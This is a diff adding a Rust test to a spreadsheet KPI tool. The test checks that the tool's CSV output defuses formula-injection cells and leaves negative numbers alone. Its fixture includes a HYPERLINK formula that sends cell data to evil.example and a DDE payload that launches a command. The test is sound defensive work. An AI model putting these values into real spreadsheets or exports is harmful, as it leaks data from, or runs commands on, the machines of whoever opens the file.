@@ -165,3 +165,32 @@ fn report_points_to_attribute_for_journey_data() {
     let o = sheetkpi(&["report", root().join("samples/campaigns.xlsx").to_str().unwrap(), "--format", "json"]);
     assert!(!stderr(&o).contains("journey"), "{}", stderr(&o));
 }
+
+#[test]
+fn csv_output_neutralises_formula_like_text_but_not_numbers() {
+    let dir = tempfile::tempdir().unwrap();
+    let input = dir.path().join("hostile.csv");
+    std::fs::write(
+        &input,
+        "Channel,Campaign,Spend,Revenue\n\
+         \"=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"x\"\")\",+cmd|' /C calc'!A0,100,-5\n\
+         @SUM(A1),-2+3,50,80\n",
+    )
+    .unwrap();
+    let o = sheetkpi(&["report", input.to_str().unwrap(), "--format", "csv"]);
+    let csv = stdout(&o);
+    let mut r = csv::ReaderBuilder::new().has_headers(false).from_reader(csv.as_bytes());
+    let cells: Vec<String> = r.records().flat_map(|rec| rec.unwrap().iter().map(String::from).collect::<Vec<_>>()).collect();
+    for bad in ["=HYPERLINK", "+cmd", "@SUM", "-2+3"] {
+        assert!(cells.iter().any(|c| c.starts_with(&format!("'{bad}"))), "{bad} not neutralised:\n{csv}");
+        assert!(!cells.iter().any(|c| c.starts_with(bad)), "{bad} left live:\n{csv}");
+    }
+    // A negative number stays a number.
+    assert!(cells.iter().any(|c| c == "-5"), "{csv}");
+    // The same rule in `attribute`'s CSV.
+    let paths = dir.path().join("paths.csv");
+    std::fs::write(&paths, "path,conversions\n=evil > Email,2\nEmail,1\n").unwrap();
+    let o = sheetkpi(&["attribute", paths.to_str().unwrap(), "--model", "linear", "--format", "csv"]);
+    let out = stdout(&o);
+    assert!(out.lines().any(|l| l.starts_with("'=evil")), "{out}");
+}
